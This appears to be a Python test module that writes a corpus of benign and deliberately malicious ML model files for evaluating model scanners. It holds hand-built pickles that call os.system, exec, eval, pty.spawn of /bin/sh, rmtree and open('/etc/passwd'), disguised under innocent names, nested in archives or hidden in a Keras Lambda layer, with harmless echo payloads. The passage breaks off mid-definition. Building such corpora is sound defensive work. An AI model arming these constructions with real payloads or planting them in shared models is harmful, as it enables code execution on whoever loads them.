"""A corpus of model files, dangerous and benign, for evaluating server-side model scanners.

Every file is written from scratch (no downloads) in a few seconds. Dangerous pickles are assembled
opcode by opcode through a pure-Python pickler whose globals are *references* (module + name
strings): nothing dangerous is imported, called, or ever unpickled here. Do not load any sample
with ``dangerous=True``; to look inside one use ``pickletools.dis`` (it executes nothing).

    .venv/bin/python -m tests.scanning.corpus /tmp/scan_corpus                     # build + manifest.json
    .venv/bin/python -m tests.scanning.corpus /tmp/scan_large --large-mib 300     # large-file cases

Formats that need torch, keras, h5py, onnx, safetensors, xgboost or lightgbm are built by hand in
their on-disk layout, so only numpy, scikit-learn, joblib, cloudpickle, pandas and mlflow are used.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import logging
import marshal
import pickle
import re
import shutil
import struct
import tarfile
import types
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

FIXED_ZIP_DATE = (1980, 1, 1, 0, 0, 0)
SHELL = "echo hokusai-corpus"  # the harmless command every dangerous sample would run


@dataclass(frozen=True)
class Sample:
    name: str  # unique slug
    relpath: str  # file path relative to the corpus root
    dangerous: bool  # would loading it the usual way run attacker-chosen code or I/O?
    why: str


# ---------------------------------------------------------------------------------------------
# A pickle assembler: globals by name, never imported


class _Ref:
    """``module.name`` as a GLOBAL (protocol < 4) or STACK_GLOBAL (4+) opcode; never imported."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name

    def __call__(self, *args: object) -> object:  # makes pickle accept it as a REDUCE callable
        raise RuntimeError("corpus references are never called")


class _Call:
    """``func(*args)`` at load time: func REDUCE (func may itself be a _Call, for chains)."""

    def __init__(self, func: _Ref | _Call, args: tuple[object, ...]) -> None:
        self.func, self.args = func, args

    def __call__(self, *args: object) -> object:
        raise RuntimeError("corpus calls are never made")

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.func, self.args)


class _OrderedDict:
    """``collections.OrderedDict()`` then SETITEMS, as torch.save writes a state_dict."""

    def __init__(self, items: Iterable[tuple[str, object]] = (), state: dict[str, object] | None = None):
        self.items, self.state = list(items), state

    def __reduce__(self) -> tuple[Any, ...]:
        return (_Ref("collections", "OrderedDict"), (), self.state, None, iter(self.items))


class _Instance:
    """An instance of a class by reference: cls EMPTY_TUPLE NEWOBJ state BUILD (protocol 2+)."""

    def __init__(self, cls: _Ref, state: dict[str, object]) -> None:
        self.cls, self.state = cls, state


class _Storage:
    """A torch storage, written as a persistent id like torch.save does."""

    def __init__(self, kind: str, key: str, numel: int) -> None:
        self.kind, self.key, self.numel = kind, key, numel


_PurePythonPickler: Any = pickle._Pickler


class _Pickler(_PurePythonPickler):  # type: ignore[misc]  # pure-Python, so its dispatch table can be extended
    dispatch: dict[type, Any] = _PurePythonPickler.dispatch.copy()

    def save_ref(self, obj: _Ref) -> None:
        if self.proto >= 4:
            self.save(obj.module)
            self.save(obj.name)
            self.write(pickle.STACK_GLOBAL)
        else:
            self.write(pickle.GLOBAL + f"{obj.module}\n{obj.name}\n".encode())
        self.memoize(obj)

    def save_instance(self, obj: _Instance) -> None:
        self.save(obj.cls)
        self.save(())
        self.write(pickle.NEWOBJ)
        self.memoize(obj)
        self.save(obj.state)
        self.write(pickle.BUILD)

    dispatch[_Ref] = save_ref
    dispatch[_Instance] = save_instance

    def persistent_id(self, obj: object) -> object:
        if isinstance(obj, _Storage):
            return ("storage", _Ref("torch", obj.kind), obj.key, "cpu", obj.numel)
        return None


def craft(obj: object, protocol: int) -> bytes:
    buf = io.BytesIO()
    _Pickler(buf, protocol=protocol).dump(obj)
    return buf.getvalue()


def call(module: str, name: str, *args: object) -> _Call:
    return _Call(_Ref(module, name), args)


def tensor(storage: _Storage, shape: tuple[int, ...]) -> _Call:
    stride = tuple(int(_prod(shape[i + 1 :])) for i in range(len(shape)))
    return call("torch._utils", "_rebuild_tensor_v2", storage, 0, shape, stride, False, _OrderedDict())


def _prod(values: Iterable[int]) -> int:
    out = 1
    for v in values:
        out *= v
    return out


# ---------------------------------------------------------------------------------------------
# Containers written by hand


def write_zip(path: Path, members: Iterable[tuple[str, bytes]], compress: bool = False) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(path, "w", method) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, FIXED_ZIP_DATE)
            info.compress_type = method
            info.external_attr = 0o644 << 16
            zf.writestr(info, data)


def zip_bytes(members: Iterable[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name, FIXED_ZIP_DATE), data)
    return buf.getvalue()


def corrupt_crc(path: Path, member: str) -> None:
    """Flip the stored CRC-32 of ``member`` in its local header and central directory entry."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(member)
    bad = struct.pack("<I", info.CRC ^ 0xDEADBEEF)
    assert data[info.header_offset : info.header_offset + 4] == b"PK\x03\x04"
    data[info.header_offset + 14 : info.header_offset + 18] = bad
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        name_len = struct.unpack_from("<H", data, pos + 28)[0]
        if data[pos + 46 : pos + 46 + name_len] == member.encode():
            data[pos + 16 : pos + 20] = bad
            break
        pos = data.find(b"PK\x01\x02", pos + 4)
    else:
        raise AssertionError(f"{member} not in the central directory")
    path.write_bytes(bytes(data))


def torch_zip_members(
    data_pkl: bytes, storages: dict[str, bytes], prefix: str = "archive"
) -> list[tuple[str, bytes]]:
    """The member layout of torch.save (>= 1.6): data.pkl, byteorder, data/<key>, version."""
    members = [(f"{prefix}/data.pkl", data_pkl), (f"{prefix}/byteorder", b"little")]
    members += [(f"{prefix}/data/{key}", raw) for key, raw in storages.items()]
    members += [
        (f"{prefix}/version", b"3\n"),
        (f"{prefix}/.data/serialization_id", b"0123456789abcdef0000\n"),
    ]
    return members


def npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
    """NumPy format 1.0 header, padded so the data starts 64-byte aligned, as numpy writes it."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1")


def safetensors_bytes(tensors: dict[str, tuple[str, tuple[int, ...], bytes]]) -> bytes:
    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
    blobs, offset = [], 0
    for name, (dtype, shape, raw) in tensors.items():
        header[name] = {"dtype": dtype, "shape": list(shape), "data_offsets": [offset, offset + len(raw)]}
        blobs.append(raw)
        offset += len(raw)
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * ((8 - len(text) % 8) % 8)
    return struct.pack("<Q", len(text)) + text + b"".join(blobs)


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _pb(field: int, value: int | bytes | str) -> bytes:
    """One protobuf field: an int as varint (wire type 0), bytes/str length-delimited (2)."""
    if isinstance(value, int):
        return _varint(field << 3) + _varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return _varint(field << 3 | 2) + _varint(len(raw)) + raw


def onnx_bytes() -> bytes:
    """An ONNX ModelProto (IR 8, opset 17): one Relu node on a float[1, 4] input."""
    tensor_type = _pb(1, 1) + _pb(2, _pb(1, _pb(1, 1)) + _pb(1, _pb(1, 4)))  # FLOAT, shape [1, 4]

    def value(name: str) -> bytes:
        return _pb(1, name) + _pb(2, _pb(1, tensor_type))

    node = _pb(1, "X") + _pb(2, "Y") + _pb(3, "relu0") + _pb(4, "Relu")
    graph = _pb(1, node) + _pb(2, "g") + _pb(11, value("X")) + _pb(12, value("Y"))
    return (
        _pb(1, 8) + _pb(2, "hokusai-corpus") + _pb(3, "0.1") + _pb(7, graph) + _pb(8, _pb(1, "") + _pb(2, 17))
    )


def keras_config(layers: list[dict[str, object]]) -> bytes:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "trainable": True,
            "dtype": "float32",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {
                        "batch_shape": [None, 4],
                        "dtype": "float32",
                        "sparse": False,
                        "name": "input_layer",
                    },
                    "registered_name": None,
                },
                *layers,
            ],
            "build_input_shape": [None, 4],
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
        "compile_config": None,
    }
    return json.dumps(config, indent=None).encode()


DENSE_LAYER: dict[str, object] = {
    "module": "keras.layers",
    "class_name": "Dense",
    "config": {
        "name": "dense",
        "trainable": True,
        "dtype": "float32",
        "units": 1,
        "activation": "sigmoid",
        "use_bias": True,
        "kernel_initializer": {
            "module": "keras.initializers",
            "class_name": "GlorotUniform",
            "config": {"seed": None},
            "registered_name": None,
        },
        "bias_initializer": {
            "module": "keras.initializers",
            "class_name": "Zeros",
            "config": {},
            "registered_name": None,
        },
        "kernel_regularizer": None,
        "bias_regularizer": None,
        "kernel_constraint": None,
        "bias_constraint": None,
    },
    "registered_name": None,
    "build_config": {"input_shape": [None, 4]},
}


def lambda_layer() -> dict[str, object]:
    """A Keras 3 Lambda layer as ``Lambda.get_config`` writes it: marshal'd code, base64-encoded.

    The code object comes from compiling source text; it is marshaled, never run."""
    source = f"lambda x: __import__('os').system({SHELL!r}) or x"
    code = next(
        c for c in compile(source, "<keras-lambda>", "eval").co_consts if isinstance(c, types.CodeType)
    )
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": {
                "class_name": "__lambda__",
                "config": {
                    "code": base64.b64encode(marshal.dumps(code)).decode("ascii"),
                    "defaults": None,
                    "closure": None,
                },
            },
            "output_shape": None,
            "mask": None,
            "arguments": {},
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


def keras_archive(path: Path, layers: list[dict[str, object]]) -> None:
    import numpy as np

    weights = io.BytesIO()
    arrays: dict[str, Any] = {  # Keras 3's NpzIOStore layout: <layer path>/vars/<index>
        "layers/dense/vars/0": np.zeros((4, 1), "float32"),
        "layers/dense/vars/1": np.zeros((1,), "float32"),
    }
    np.savez(weights, **arrays)
    metadata = json.dumps({"keras_version": "3.6.0", "date_saved": "2025-01-01@00:00:00"}).encode()
    write_zip(
        path,
        [
            ("metadata.json", metadata),
            ("config.json", keras_config(layers)),
            ("model.weights.npz", weights.getvalue()),
        ],
    )


# ---------------------------------------------------------------------------------------------
# The corpus


class _Builder:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.samples: list[Sample] = []

    def add(self, name: str, relpath: str, dangerous: bool, why: str) -> Path:
        assert name not in {s.name for s in self.samples}, name
        path = self.root / relpath
        path.parent.mkdir(parents=True, exist_ok=True)
        self.samples.append(Sample(name, relpath, dangerous, why))
        return path

    def file(self, name: str, relpath: str, data: bytes, dangerous: bool, why: str) -> None:
        self.add(name, relpath, dangerous, why).write_bytes(data)


def _dangerous_pickles(b: _Builder) -> None:
    for proto in range(6):
        opcode = "GLOBAL" if proto < 4 else "STACK_GLOBAL"
        b.file(
            f"os_system_p{proto}",
            f"pickle/os_system_p{proto}.pkl",
            craft(call("os", "system", SHELL), proto),
            True,
            f"os.system via {opcode}, protocol {proto}",
        )
    calls: list[tuple[str, str, int, _Call, str]] = [
        # (name, file, protocol, payload, why)
        (
            "subprocess_popen",
            "subprocess_popen.pkl",
            2,
            call("subprocess", "Popen", ["echo", "x"]),
            "subprocess.Popen(argv)",
        ),
        (
            "subprocess_check_output",
            "subprocess_check_output.pkl",
            4,
            call("subprocess", "check_output", SHELL),
            "subprocess.check_output",
        ),
        (
            "builtins_exec",
            "builtins_exec.pkl",
            0,
            call("__builtin__", "exec", f"import os; os.system({SHELL!r})"),
            "exec of source text (protocol 0 spelling __builtin__.exec)",
        ),
        (
            "builtins_eval",
            "builtins_eval.pkl",
            4,
            call("builtins", "eval", f"__import__('os').system({SHELL!r})"),
            "builtins.eval of source text",
        ),
        (
            "builtins_compile",
            "builtins_compile.pkl",
            2,
            call(
                "builtins",
                "exec",
                call("builtins", "compile", f"import os; os.system({SHELL!r})", "<x>", "exec"),
            ),
            "builtins.exec(builtins.compile(...))",
        ),
        (
            "builtins_import",
            "builtins_import.pkl",
            3,
            call("builtins", "__import__", "os"),
            "builtins.__import__('os'): imports arbitrary modules",
        ),
        (
            "importlib_import_module",
            "importlib_import_module.pkl",
            4,
            call("importlib", "import_module", "os"),
            "importlib.import_module",
        ),
        (
            "runpy_run_path",
            "runpy_run_path.pkl",
            4,
            call("runpy", "run_path", "/tmp/hokusai-corpus-x.py"),
            "runpy.run_path runs a script",
        ),
        (
            "getattr_chain",
            "getattr_chain.pkl",
            2,
            _Call(call("builtins", "getattr", call("builtins", "__import__", "os"), "system"), (SHELL,)),
            "getattr(__import__('os'), 'system')(cmd): no dangerous global named",
        ),
        (
            "getattr_chain_p4",
            "getattr_chain_p4.pkl",
            4,
            _Call(
                call("builtins", "getattr", call("importlib", "import_module", "subprocess"), "getoutput"),
                (SHELL,),
            ),
            "getattr(importlib.import_module('subprocess'), 'getoutput')(cmd)",
        ),
        (
            "asyncio_subprocess_dotted",
            "asyncio_subprocess_dotted.pkl",
            4,
            call("asyncio.subprocess", "subprocess.Popen", ["echo", "x"]),
            "STACK_GLOBAL asyncio.subprocess / 'subprocess.Popen' (dotted name resolves to subprocess.Popen)",
        ),
        (
            "ospath_dotted_system",
            "ospath_dotted_system.pkl",
            4,
            call("os.path", "os.system", SHELL),
            "STACK_GLOBAL os.path / 'os.system': posixpath.os.system is os.system",
        ),
        (
            "posixsubprocess_fork_exec",
            "posixsubprocess_fork_exec.pkl",
            2,
            call(
                "_posixsubprocess",
                "fork_exec",
                [b"/bin/echo"],
                [b"/bin/echo"],
                True,
                (),
                None,
                None,
                -1,
                -1,
                -1,
                -1,
                -1,
                -1,
                -1,
                -1,
                False,
                False,
                -1,
                None,
                None,
                None,
                -1,
                None,
                True,
            ),
            "_posixsubprocess.fork_exec: the C primitive under subprocess",
        ),
        ("pty_spawn", "pty_spawn.pkl", 2, call("pty", "spawn", "/bin/sh"), "pty.spawn a shell"),
        (
            "socket_create_connection",
            "socket_create_connection.pkl",
            4,
            call("socket", "create_connection", ("127.0.0.1", 9)),
            "socket.create_connection: network",
        ),
        (
            "webbrowser_open",
            "webbrowser_open.pkl",
            2,
            call("webbrowser", "open", "http://127.0.0.1/"),
            "webbrowser.open: launches a program",
        ),
        (
            "shutil_rmtree",
            "shutil_rmtree.pkl",
            4,
            call("shutil", "rmtree", "/tmp/hokusai-corpus-nonexistent"),
            "shutil.rmtree: deletes files",
        ),
        (
            "builtins_open",
            "builtins_open.pkl",
            2,
            call("builtins", "open", "/etc/passwd"),
            "builtins.open: file access",
        ),
        (
            "nested_pickle_loads",
            "nested_pickle_loads.pkl",
            4,
            call("pickle", "loads", craft(call("os", "system", SHELL), 2)),
            "pickle.loads of an embedded os.system pickle",
        ),
        (
            "numpy_runstring",
            "numpy_runstring.pkl",
            4,
            call("numpy.testing._private.utils", "runstring", f"import os; os.system({SHELL!r})", {}),
            "numpy.testing._private.utils.runstring = exec, in an ML library namespace",
        ),
    ]
    for name, fname, proto, payload, why in calls:
        b.file(name, f"pickle/{fname}", craft(payload, proto), True, f"{why}; protocol {proto}")

    # What an attacker's pickle.dumps really writes: os.system pickles as posix.system.
    b.file(
        "posix_system_p4",
        "pickle/posix_system_p4.pkl",
        craft(call("posix", "system", SHELL), 4),
        True,
        "posix.system (what pickle.dumps writes for os.system on Linux); protocol 4",
    )
    # Payload hidden after a benign state_dict-like value: the danger is not the first opcode.
    hidden = _OrderedDict([("w", [1.0, 2.0]), ("hook", call("os", "system", SHELL))])
    b.file(
        "os_system_in_dict",
        "pickle/os_system_in_dict.pkl",
        craft(hidden, 2),
        True,
        "os.system nested as a value inside an OrderedDict; protocol 2",
    )

    disguised = craft(call("os", "system", SHELL), 2)
    b.file("pickle_as_txt", "disguised/model.txt", disguised, True, "os.system pickle named model.txt")
    b.file("pickle_as_json", "disguised/config.json", disguised, True, "os.system pickle named config.json")


def _torch(b: _Builder) -> None:
    import numpy as np

    weight = np.arange(4, dtype="<f4").tobytes()
    bias = np.zeros(2, dtype="<f4").tobytes()
    state = _OrderedDict(
        [
            ("linear.weight", tensor(_Storage("FloatStorage", "0", 4), (2, 2))),
            ("linear.bias", tensor(_Storage("FloatStorage", "1", 2), (2,))),
        ],
        state={"_metadata": _OrderedDict([("", {"version": 1}), ("linear", {"version": 1})])},
    )
    good = torch_zip_members(craft(state, 2), {"0": weight, "1": bias})
    write_zip(
        b.add(
            "torch_state_dict",
            "torch/state_dict.pt",
            False,
            "torch.save(state_dict) layout: OrderedDict, _rebuild_tensor_v2, FloatStorage persistent ids",
        ),
        good,
    )
    module = _Instance(
        _Ref("torch.nn.modules.linear", "Linear"),
        {
            "training": True,
            "_parameters": {
                "weight": call(
                    "torch._utils",
                    "_rebuild_parameter",
                    tensor(_Storage("FloatStorage", "0", 4), (2, 2)),
                    True,
                    _OrderedDict(),
                ),
                "bias": call(
                    "torch._utils",
                    "_rebuild_parameter",
                    tensor(_Storage("FloatStorage", "1", 2), (2,)),
                    True,
                    _OrderedDict(),
                ),
            },
            "_buffers": {},
            "_modules": {},
            "in_features": 2,
            "out_features": 2,
        },
    )
    write_zip(
        b.add(
            "torch_full_module",
            "torch/full_module.pt",
            False,
            "torch.save(nn.Linear): whole module pickled, torch classes only (suspicious-only at most)",
        ),
        torch_zip_members(craft(module, 2), {"0": weight, "1": bias}),
    )

    evil_state = _OrderedDict(
        [
            ("linear.weight", tensor(_Storage("FloatStorage", "0", 4), (2, 2))),
            ("hook", call("os", "system", SHELL)),
        ]
    )
    evil = torch_zip_members(craft(evil_state, 2), {"0": weight})
    write_zip(b.add("torch_malicious", "torch/malicious.pt", True, "torch zip, data.pkl has os.system"), evil)
    write_zip(b.add("torch_as_bin", "torch/weights.bin", True, "malicious torch zip named weights.bin"), evil)
    write_zip(
        b.add("torch_no_ext", "torch/pytorch_model", True, "malicious torch zip without an extension"), evil
    )
    write_zip(
        b.add(
            "torch_other_prefix",
            "torch/renamed_prefix.pth",
            True,
            "malicious torch zip whose member prefix is not 'archive' (torch accepts any)",
        ),
        torch_zip_members(craft(evil_state, 2), {"0": weight}, prefix="my_model"),
    )
    path = b.add(
        "torch_bad_crc",
        "torch/bad_crc.pt",
        True,
        "malicious torch zip with a wrong CRC-32 on data.pkl (torch's reader does not check it)",
    )
    write_zip(path, evil)
    corrupt_crc(path, "archive/data.pkl")
    legacy = craft(call("os", "system", SHELL), 2)
    b.file(
        "torch_legacy_pickle",
        "torch/legacy.pt",
        legacy,
        True,
        "pre-1.6 torch.save: a bare pickle stream in a .pt file",
    )


def _numpy(b: _Builder) -> None:
    import numpy as np

    np.save(
        b.add("npy_float", "numpy/float.npy", False, "float32 array, no pickle"),
        np.linspace(0, 1, 16, dtype="float32"),
    )
    np.savez(
        b.add("npz_float", "numpy/arrays.npz", False, "two float arrays in an npz"),
        a=np.ones(4),
        b=np.zeros((2, 2)),
    )
    np.save(
        b.add(
            "npy_object_benign",
            "numpy/object_benign.npy",
            False,
            "object array of ints/strings: pickled numpy reconstruct globals only (suspicious at most)",
        ),
        np.array([1, "two", 3.0], dtype=object),
        allow_pickle=True,
    )
    evil = npy_header("|O", (1,)) + craft(call("os", "system", SHELL), 4)
    b.file(
        "npy_object_malicious",
        "numpy/object_malicious.npy",
        evil,
        True,
        "npy with dtype=object whose payload pickle is os.system",
    )
    path = b.add(
        "npz_object_malicious",
        "numpy/object_malicious.npz",
        True,
        "npz whose arr_0.npy is dtype=object with an os.system pickle",
    )
    write_zip(path, [("arr_0.npy", evil)])


def _archives(b: _Builder) -> None:
    payload = craft(call("os", "system", SHELL), 4)
    inner = zip_bytes([("inner/model.pkl", payload)])
    path = b.add(
        "tar_gz_zip_pickle",
        "archives/bundle.tar.gz",
        True,
        "tar.gz containing a zip containing an os.system pickle",
    )
    tar_buf = io.BytesIO()
    with tarfile.open(fileobj=tar_buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo("bundle/model.zip")
        info.size, info.mtime, info.mode = len(inner), 0, 0o644
        tar.addfile(info, io.BytesIO(inner))
    with path.open("wb") as raw, gzip.GzipFile(fileobj=raw, mode="wb", mtime=0) as gz:
        gz.write(tar_buf.getvalue())
    write_zip(
        b.add(
            "zip_in_zip", "archives/outer.zip", True, "zip containing a zip containing an os.system pickle"
        ),
        [("outer/README", b"weights\n"), ("outer/inner.zip", inner)],
    )
    write_zip(
        b.add(
            "zip_deflated_pickle",
            "archives/deflated.zip",
            True,
            "deflate-compressed zip member holding an os.system pickle",
        ),
        [("model.pkl", payload)],
        compress=True,
    )


def _keras_and_text(b: _Builder) -> None:
    keras_archive(
        b.add(
            "keras_lambda",
            "keras/lambda.keras",
            True,
            "Keras v3 archive whose config has a Lambda layer (marshal'd code runs on load with "
            "safe_mode=False, or in older Keras)",
        ),
        [lambda_layer(), DENSE_LAYER],
    )
    keras_archive(
        b.add("keras_dense", "keras/dense.keras", False, "Keras v3 archive, InputLayer + Dense"),
        [DENSE_LAYER],
    )
    tensors = {
        "linear.weight": ("F32", (2, 2), struct.pack("<4f", 0, 1, 2, 3)),
        "linear.bias": ("F32", (2,), struct.pack("<2f", 0, 0)),
    }
    b.file(
        "safetensors",
        "safetensors/model.safetensors",
        safetensors_bytes(tensors),
        False,
        "safetensors: u64 header length + JSON header + raw little-endian floats",
    )
    b.file(
        "onnx", "onnx/model.onnx", onnx_bytes(), False, "ONNX ModelProto protobuf (hand-encoded, one Relu)"
    )
    b.file(
        "xgboost_json",
        "xgboost/model.json",
        json.dumps(XGBOOST_MODEL).encode(),
        False,
        "XGBoost JSON model (one stump)",
    )
    b.file(
        "lightgbm_txt",
        "lightgbm/model.txt",
        LIGHTGBM_MODEL.encode(),
        False,
        "LightGBM text model (one stump)",
    )


def _user_class(b: _Builder) -> None:
    obj = _Instance(_Ref("acme_models.churn", "ChurnModel"), {"threshold": 0.5, "weights": [0.1, 0.2]})
    b.file(
        "unknown_user_class",
        "pickle/unknown_user_class.pkl",
        craft(obj, 4),
        False,
        "instance of an unknown user class (acme_models.churn.ChurnModel): suspicious-only",
    )
    with_set = _OrderedDict(
        [
            ("labels", call("__builtin__", "set", [["a", "b"]])),
            ("c", call("__builtin__", "complex", 1.0, 2.0)),
        ]
    )
    b.file(
        "builtins_set_complex_p2",
        "pickle/builtins_set_complex_p2.pkl",
        craft(with_set, 2),
        False,
        "protocol 2 pickle of set() and complex(): __builtin__.set/complex are harmless constructors",
    )


def _sklearn_and_mlflow(b: _Builder) -> None:
    import cloudpickle
    import joblib
    import numpy as np
    import pandas as pd
    import sklearn
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(0)
    x = rng.normal(size=(40, 4))
    y = (x[:, 0] > 0).astype(int)
    model = LogisticRegression().fit(x, y)

    joblib.dump(
        model, b.add("sklearn_joblib", "sklearn/model.joblib", False, "joblib.dump of a LogisticRegression")
    )
    evil = {"coef": np.ones(3), "hook": _ReduceToSystem()}
    joblib.dump(
        evil,
        b.add(
            "joblib_malicious",
            "joblib/malicious.joblib",
            True,
            "joblib.dump of a dict with a numpy array and a __reduce__ to os.system",
        ),
    )
    joblib.dump(
        evil,
        b.add(
            "joblib_malicious_zlib",
            "joblib/malicious_zlib.joblib",
            True,
            "joblib.dump(compress=3): zlib-compressed pickle with a __reduce__ to os.system",
        ),
        compress=3,
    )
    pd.DataFrame({"a": [1, 2, 3], "b": ["x", "y", "z"]}).to_pickle(
        b.add("pandas_pickle", "pandas/frame.pkl", False, "pandas DataFrame.to_pickle")
    )

    import mlflow.sklearn

    reqs = [f"scikit-learn=={sklearn.__version__}", f"cloudpickle=={cloudpickle.__version__}"]
    mlflow_logger = logging.getLogger("mlflow")
    level = mlflow_logger.level
    mlflow_logger.setLevel(logging.ERROR)  # the "pickle formats need caution" warning, once per save
    try:
        for fmt, fname in [("skops", "model.skops"), ("cloudpickle", "model.pkl"), ("pickle", "model.pkl")]:
            directory = b.root / f"mlflow_sklearn_{fmt}"
            shutil.rmtree(directory, ignore_errors=True)  # save_model refuses a non-empty target
            mlflow.sklearn.save_model(model, directory, serialization_format=fmt, pip_requirements=reqs)
            _normalize_mlmodel(directory / "MLmodel")
            if fmt == "skops":
                _normalize_zip(directory / fname)
            default = " (MLflow 3.17's default outside Databricks)" if fmt == "skops" else ""
            b.add(
                f"mlflow_sklearn_{fmt}",
                f"mlflow_sklearn_{fmt}/{fname}",
                False,
                f"mlflow.sklearn.save_model(serialization_format={fmt!r}){default}",
            )
    finally:
        mlflow_logger.setLevel(level)
    for fname, why in [
        ("MLmodel", "MLmodel YAML"),
        ("conda.yaml", "conda.yaml"),
        ("requirements.txt", "requirements.txt"),
        ("python_env.yaml", "python_env.yaml"),
    ]:
        b.add(f"mlflow_{fname.replace('.', '_').lower()}", f"mlflow_sklearn_cloudpickle/{fname}", False, why)

    for evil_model in (False, True):
        tag = "malicious" if evil_model else "benign"
        directory = b.root / f"mlflow_pyfunc_{tag}"
        directory.mkdir(parents=True, exist_ok=True)
        instance = _python_model(evil_model)
        (directory / "python_model.pkl").write_bytes(cloudpickle.dumps(instance))
        (directory / "MLmodel").write_text(PYFUNC_MLMODEL.format(cloudpickle=cloudpickle.__version__))
        (directory / "requirements.txt").write_text(
            f"mlflow=={mlflow.__version__}\ncloudpickle=={cloudpickle.__version__}\n"
        )
        why = (
            "cloudpickle of a PythonModel subclass defined by value; an attribute's __reduce__ is os.system"
            if evil_model
            else "cloudpickle of a PythonModel subclass defined by value (how pyfunc models ship): "
            "code objects are rebuilt, not run, at load; suspicious-only"
        )
        b.add(f"mlflow_pyfunc_{tag}", f"mlflow_pyfunc_{tag}/python_model.pkl", evil_model, why)


class _ReduceToSystem:
    """Pickles (through joblib/cloudpickle's own picklers) as ``posix.system(SHELL)``."""

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return (os.system, (SHELL,))  # pickled by reference; this module never unpickles it


def _python_model(evil: bool) -> object:
    """A PythonModel subclass cloudpickle must serialize by value (its module is not importable)."""
    import cloudpickle
    from mlflow.pyfunc import PythonModel

    def predict(self: object, context: object, model_input: list[str], params: object = None) -> list[str]:
        return model_input

    namespace: dict[str, object] = {"predict": predict, "__module__": "hokusai_corpus_user_code"}
    cls = types.new_class("ChurnPyfunc", (PythonModel,), {}, lambda ns: ns.update(namespace))
    # cloudpickle tags by-value classes with a random uuid; pin it so the bytes are reproducible.
    cloudpickle.cloudpickle._DYNAMIC_CLASS_TRACKER_BY_CLASS[cls] = f"hokusai-corpus-{int(evil)}"
    instance = cls()
    instance.threshold = 0.5
    if evil:
        instance.hook = _ReduceToSystem()
    return instance


def _normalize_mlmodel(path: Path) -> None:
    import yaml

    doc = yaml.safe_load(path.read_text())
    doc["utc_time_created"] = "2025-01-01 00:00:00.000000"
    doc["model_uuid"] = "00000000000000000000000000000000"
    path.write_text(yaml.safe_dump(doc, sort_keys=False))


def _normalize_zip(path: Path) -> None:
    """Fixed dates, and skops's id()-derived numbers (``__id__`` and ``<id>.npy``) made ordinals."""
    with zipfile.ZipFile(path) as zf:
        members = [(info.filename, zf.read(info), info.compress_type) for info in zf.infolist()]
    ids: dict[str, str] = {}
    for name, data, _ in members:
        text = data.decode() if name == "schema.json" else ""
        for found in re.findall(r'"__id__": (\d+)|"(\d+)\.npy"', text):
            ids.setdefault(found[0] or found[1], str(len(ids) + 1))

    def renumber(match: re.Match[str]) -> str:
        return match.group(0).replace(match.group(1), ids[match.group(1)])

    with zipfile.ZipFile(path, "w") as zf:
        for name, data, method in members:
            if name == "schema.json":
                text = re.sub(r'"__id__": (\d+)', renumber, data.decode())
                data = re.sub(r'"(\d+)\.npy"', renumber, text).encode()
            elif name.endswith(".npy") and name[:-4] in ids:
                name = f"{ids[name[:-4]]}.npy"
            info = zipfile.ZipInfo(name, FIXED_ZIP_DATE)
            info.compress_type = method
            zf.writestr(info, data)


PYFUNC_MLMODEL = """\
artifact_path: model
flavors:
  python_function:
    cloudpickle_version: {cloudpickle}
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.pyfunc.model
    python_model: python_model.pkl
    python_version: 3.11.7
mlflow_version: 3.17.2
model_uuid: 00000000000000000000000000000000
utc_time_created: '2025-01-01 00:00:00.000000'
"""

XGBOOST_MODEL: dict[str, object] = {
    "learner": {
        "attributes": {},
        "feature_names": [],
        "feature_types": [],
        "gradient_booster": {
            "model": {
                "gbtree_model_param": {"num_parallel_tree": "1", "num_trees": "1"},
                "iteration_indptr": [0, 1],
                "tree_info": [0],
                "trees": [
                    {
                        "base_weights": [0.0, -0.4, 0.4],
                        "categories": [],
                        "categories_nodes": [],
                        "categories_segments": [],
                        "categories_sizes": [],
                        "default_left": [0, 0, 0],
                        "id": 0,
                        "left_children": [1, -1, -1],
                        "loss_changes": [1.5, 0.0, 0.0],
                        "parents": [2147483647, 0, 0],
                        "right_children": [2, -1, -1],
                        "split_conditions": [0.5, -0.4, 0.4],
                        "split_indices": [0, 0, 0],
                        "split_type": [0, 0, 0],
                        "sum_hessian": [10.0, 5.0, 5.0],
                        "tree_param": {
                            "num_deleted": "0",
                            "num_feature": "4",
                            "num_nodes": "3",
                            "size_leaf_vector": "1",
                        },
                    }
                ],
            },
            "name": "gbtree",
        },
        "learner_model_param": {
